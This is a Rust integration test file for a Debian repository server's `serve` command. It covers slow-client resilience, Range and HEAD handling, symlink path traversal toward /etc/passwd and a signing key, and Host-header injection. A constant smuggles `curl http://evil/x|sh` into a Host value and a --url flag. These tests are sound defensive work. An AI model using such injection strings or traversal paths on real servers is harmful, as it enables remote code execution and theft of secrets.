//! Issue 10: `kubedeb serve` under hostile and slow clients, and serving files as apt expects (Range, HEAD, Content-Length, Last-Modified).
//!
//! Every test talks to the real binary over raw loopback sockets, on a repository tree laid out
//! as `kubedeb publish` lays it (`dists/<suite>` a link into `dists/.states`).

use crate::harness::bin::kubedeb;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

const BIG: &str = "/pool/main/k/k8s-big/k8s-big_1.0-1_amd64.deb";
const BIG_SIZE: u64 = 64 << 20;
const DEB: &str = "/pool/main/k/k8s-master/k8s-master_1.1.4-1_amd64.deb";
const IN_RELEASE: &str = "-----BEGIN PGP SIGNED MESSAGE-----\nSuite: stable\n";

/// A patterned payload, so a wrong offset shows.
fn pattern(len: usize) -> Vec<u8> {
    (0..len).map(|i| (i % 251) as u8).collect()
}

/// `<tmp>/public` as published, plus `<tmp>/private/signing.key` that must never be served.
fn repository() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let public = dir.path().join("public");
    let state = public.join("dists/.states/stable/1-abc");
    std::fs::create_dir_all(&state).unwrap();
    std::fs::write(state.join("InRelease"), IN_RELEASE).unwrap();
    std::os::unix::fs::symlink(".states/stable/1-abc", public.join("dists/stable")).unwrap();
    for (path, len) in [(BIG, None), (DEB, Some(200_000))] {
        let file = public.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        match len {
            Some(len) => std::fs::write(&file, pattern(len)).unwrap(),
            // Sparse: big enough to outlast every socket buffer, cheap to make.
            None => std::fs::File::create(&file)
                .unwrap()
                .set_len(BIG_SIZE)
                .unwrap(),
        }
    }
    std::fs::write(public.join("kubedeb-archive-keyring.gpg"), b"public key").unwrap();
    std::fs::create_dir_all(dir.path().join("private")).unwrap();
    std::fs::write(dir.path().join("private/signing.key"), "SECRET KEY").unwrap();
    std::os::unix::fs::symlink("../private", public.join("private")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", public.join("passwd")).unwrap();
    std::os::unix::fs::symlink("../private/signing.key", public.join("key.asc")).unwrap();
    dir
}

/// `kubedeb serve` on a free loopback port, killed when dropped (also when a test fails).
struct Server {
    child: Child,
    addr: String,
}

impl Server {
    fn start(repo: &Path, extra: &[&str]) -> Server {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let addr = format!("127.0.0.1:{port}");
        let child = kubedeb()
            .args(["serve", "--repo"])
            .arg(repo)
            .args(["--listen", &addr])
            .args(extra)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let server = Server { child, addr };
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect(&server.addr).is_err() {
            assert!(Instant::now() < deadline, "kubedeb serve did not listen");
            std::thread::sleep(Duration::from_millis(20));
        }
        server
    }

    fn rss_kib(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        status
            .lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap()
    }

    fn threads(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        status
            .lines()
            .find_map(|l| l.strip_prefix("Threads:"))
            .and_then(|v| v.trim().parse().ok())
            .unwrap()
    }

    fn connect(&self) -> TcpStream {
        let stream = TcpStream::connect(&self.addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        stream
    }

    /// One request with `Connection: close`, read to its end.
    fn get(&self, method: &str, path: &str, headers: &[(&str, &str)]) -> Reply {
        let mut raw = format!(
            "{method} {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n",
            self.addr
        );
        for (name, value) in headers {
            raw.push_str(&format!("{name}: {value}\r\n"));
        }
        raw.push_str("\r\n");
        let mut stream = self.connect();
        stream.write_all(raw.as_bytes()).unwrap();
        Reply::read(&mut stream).expect("a complete response")
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

struct Reply {
    status: u16,
    head: String,
    body: Vec<u8>,
}

// The head and the body's size: a body in a failure message would be megabytes of numbers.
impl std::fmt::Debug for Reply {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:?} + {} body bytes", self.head, self.body.len())
    }
}

impl Reply {
    fn read(stream: &mut TcpStream) -> std::io::Result<Reply> {
        let mut bytes = Vec::new();
        stream.read_to_end(&mut bytes)?;
        let split = bytes
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .ok_or_else(|| {
                std::io::Error::other(format!("no header end in {} bytes", bytes.len()))
            })?;
        let head = String::from_utf8_lossy(&bytes[..split]).into_owned();
        let status = head
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| std::io::Error::other(format!("no status in {head:?}")))?;
        Ok(Reply {
            status,
            head,
            body: bytes[split + 4..].to_vec(),
        })
    }

    fn header(&self, name: &str) -> Option<&str> {
        self.head.lines().skip(1).find_map(|line| {
            let (n, v) = line.split_once(':')?;
            n.eq_ignore_ascii_case(name).then(|| v.trim())
        })
    }
}

#[test]
fn stalled_downloads_never_delay_another_clients_in_release() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    // Each asks for 64 MiB and never reads a byte of it.
    let stalled: Vec<TcpStream> = (0..8)
        .map(|_| {
            let mut s = server.connect();
            write!(s, "GET {BIG} HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
            s
        })
        .collect();
    std::thread::sleep(Duration::from_millis(500));

    let started = Instant::now();
    let reply = server.get("GET", "/dists/stable/InRelease", &[]);
    let took = started.elapsed();
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.body, IN_RELEASE.as_bytes());
    assert!(
        took < Duration::from_secs(1),
        "InRelease took {took:?} with 8 stalled clients"
    );
    drop(stalled);
}

#[test]
fn idle_connections_cost_no_threads_and_others_are_still_answered() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let before = server.threads();
    // Half send nothing, half a request line and no end of headers.
    let idle: Vec<TcpStream> = (0..300)
        .map(|i| {
            let mut s = server.connect();
            if i % 2 == 1 {
                s.write_all(b"GET / HTTP/1.1\r\n").unwrap();
            }
            s
        })
        .collect();
    std::thread::sleep(Duration::from_millis(500));
    let during = server.threads();
    assert!(
        during <= before + 4,
        "{} idle connections took the server from {before} to {during} threads",
        idle.len()
    );
    let started = Instant::now();
    assert_eq!(
        server.get("GET", "/dists/stable/InRelease", &[]).status,
        200
    );
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_request_line_of_200_mib_is_refused_without_buffering_it() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let before = server.rss_kib();
    let mut stream = server.connect();
    stream.write_all(b"GET /").unwrap();
    let chunk = vec![b'a'; 1 << 20];
    let mut peak = before;
    let mut refused_at = None;
    for mib in 0..200 {
        if let Err(e) = stream.write_all(&chunk) {
            refused_at = Some((mib, e));
            break;
        }
        if mib % 8 == 0 {
            peak = peak.max(server.rss_kib());
        }
    }
    peak = peak.max(server.rss_kib());
    assert!(
        peak < before + 32 * 1024,
        "server RSS grew from {before} KiB to {peak} KiB on one request line"
    );
    // Refused: a 4xx before the close, or the connection cut while we were still sending.
    match Reply::read(&mut stream) {
        Ok(reply) => assert!((400..500).contains(&reply.status), "{reply:?}"),
        Err(e) => assert!(refused_at.is_some(), "neither a 4xx nor a close: {e}"),
    }
}

#[test]
fn a_header_of_1_mib_gets_431_or_400() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let mut stream = server.connect();
    let mut reader = stream.try_clone().unwrap();
    // Read while writing: the answer comes long before the header ends.
    let answer = std::thread::spawn(move || Reply::read(&mut reader));
    let mut raw = b"GET /dists/stable/InRelease HTTP/1.1\r\nHost: x\r\nX-Big: ".to_vec();
    raw.extend(std::iter::repeat_n(b'a', 1 << 20));
    raw.extend(b"\r\n\r\n");
    let _ = stream.write_all(&raw);
    let reply = answer.join().unwrap().expect("an answer before the close");
    assert!(matches!(reply.status, 400 | 431), "{reply:?}");
}

#[test]
fn range_requests_get_206_with_the_right_bytes() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let all = pattern(200_000);
    let reply = server.get("GET", DEB, &[("Range", "bytes=100000-100999")]);
    assert_eq!(reply.status, 206, "{reply:?}");
    assert_eq!(
        reply.header("Content-Range"),
        Some("bytes 100000-100999/200000")
    );
    assert_eq!(reply.header("Content-Length"), Some("1000"));
    assert_eq!(reply.body, &all[100_000..101_000]);
    // apt resumes a partial download from its end.
    let reply = server.get("GET", DEB, &[("Range", "bytes=199990-")]);
    assert_eq!(reply.status, 206, "{reply:?}");
    assert_eq!(reply.body, &all[199_990..]);
    let reply = server.get("GET", DEB, &[("Range", "bytes=300000-")]);
    assert_eq!(reply.status, 416, "{reply:?}");
}

#[test]
fn large_files_have_a_content_length_and_head_sends_only_headers() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let reply = server.get("GET", DEB, &[]);
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(
        reply.header("Content-Length"),
        Some("200000"),
        "{}",
        reply.head
    );
    assert_eq!(reply.header("Transfer-Encoding"), None, "{}", reply.head);
    assert_eq!(reply.body, pattern(200_000));

    let reply = server.get("HEAD", BIG, &[]);
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(
        reply.header("Content-Length"),
        Some(BIG_SIZE.to_string().as_str()),
        "{}",
        reply.head
    );
    assert!(
        reply.body.is_empty(),
        "HEAD sent {} body bytes",
        reply.body.len()
    );
}

#[test]
fn last_modified_and_if_modified_since_give_304() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let reply = server.get("GET", "/dists/stable/InRelease", &[]);
    let stamp = reply
        .header("Last-Modified")
        .unwrap_or_else(|| panic!("no Last-Modified in {}", reply.head))
        .to_string();
    let reply = server.get(
        "GET",
        "/dists/stable/InRelease",
        &[("If-Modified-Since", &stamp)],
    );
    assert_eq!(reply.status, 304, "{reply:?}");
    assert!(reply.body.is_empty());
    let reply = server.get(
        "GET",
        "/dists/stable/InRelease",
        &[("If-Modified-Since", "Mon, 01 Jan 2001 00:00:00 GMT")],
    );
    assert_eq!(reply.status, 200, "{reply:?}");
}

#[test]
fn nothing_outside_public_is_served_through_symlinks() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    for path in [
        "/private/signing.key",
        "/passwd",
        "/key.asc",
        "/dists/../../private/signing.key",
        "/%2e%2e/private/signing.key",
        "/dists/.states/stable/1-abc/InRelease",
    ] {
        for method in ["GET", "HEAD"] {
            let reply = server.get(method, path, &[]);
            assert!(
                matches!(reply.status, 403 | 404),
                "{method} {path}: {reply:?}"
            );
            let body = String::from_utf8_lossy(&reply.body);
            assert!(
                !body.contains("SECRET") && !body.contains("root:"),
                "{method} {path}: {body}"
            );
        }
    }
    // The repository's own link into its state directories still works.
    assert_eq!(
        server.get("GET", "/dists/stable/InRelease", &[]).status,
        200
    );
}

/// The page from a raw request with this Host header value.
fn page_with_host(server: &Server, host: &str) -> Reply {
    let mut stream = server.connect();
    write!(
        stream,
        "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    Reply::read(&mut stream).unwrap()
}

const HOSTILE: &str = "x' ; curl http://evil/x|sh ; echo '";

#[test]
fn the_page_takes_only_a_valid_host_or_the_url() {
    let repo = repository();
    let server = Server::start(repo.path(), &[]);
    let reply = page_with_host(&server, "10.1.2.3:8000");
    assert_eq!(reply.status, 200, "{reply:?}");
    let page = String::from_utf8_lossy(&reply.body);
    assert!(page.contains("http://10.1.2.3:8000/ stable main"), "{page}");

    let reply = page_with_host(&server, HOSTILE);
    let page = String::from_utf8_lossy(&reply.body);
    assert!(
        !page.contains("evil") && !page.contains("echo '\n"),
        "{page}"
    );
    assert!(
        page.contains("--url"),
        "the refusal says what to do: {page}"
    );
    assert_eq!(reply.status, 400, "{reply:?}");
    drop(server);

    let server = Server::start(repo.path(), &["--url", "http://repo.example:9000/"]);
    let reply = page_with_host(&server, HOSTILE);
    assert_eq!(reply.status, 200, "{reply:?}");
    let page = String::from_utf8_lossy(&reply.body);
    assert!(
        page.contains("http://repo.example:9000/ stable main"),
        "{page}"
    );
    assert!(!page.contains("evil"), "{page}");
}

#[test]
fn a_url_that_would_break_the_commands_is_refused_at_start() {
    let repo = repository();
    let mut child = kubedeb()
        .args(["serve", "--repo"])
        .arg(repo.path())
        .args([
            "--listen",
            "127.0.0.1:0",
            "--url",
            &format!("http://{HOSTILE}"),
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("kubedeb serve started with --url http://{HOSTILE}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert!(!status.success(), "{stderr}");
    assert!(
        stderr.contains("--url") && stderr.contains("host"),
        "{stderr}"
    );
}
